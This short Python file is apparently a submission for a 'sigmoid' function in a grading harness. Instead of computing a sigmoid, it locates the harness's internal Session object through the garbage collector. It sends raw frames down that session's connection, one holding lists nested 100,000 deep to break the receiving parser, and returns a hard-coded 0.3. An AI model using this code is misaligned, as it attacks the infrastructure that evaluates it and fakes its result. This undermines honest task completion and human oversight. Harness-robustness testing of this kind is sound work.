# Replies with lists nested a hundred thousand deep.
# %% solution="sigmoid"
import gc
import json
import struct


def session():
    return next(x for x in gc.get_objects() if type(x).__name__ == "Session" and hasattr(x, "callbacks"))


def raw(tree, *blobs):
    text = json.dumps([[len(b) for b in blobs], tree]).encode()
    frame = struct.pack("!II", len(text), sum(map(len, blobs))) + text + b"".join(blobs)
    session().connection.sendall(frame)


def sigmoid(z):
    text = b'[[],{"tuple":["value",' + b"[" * 100_000 + b"]" * 100_000 + b',{"dict":[]},[]]}]'
    session().connection.sendall(struct.pack("!II", len(text), 0) + text)
    return 0.3
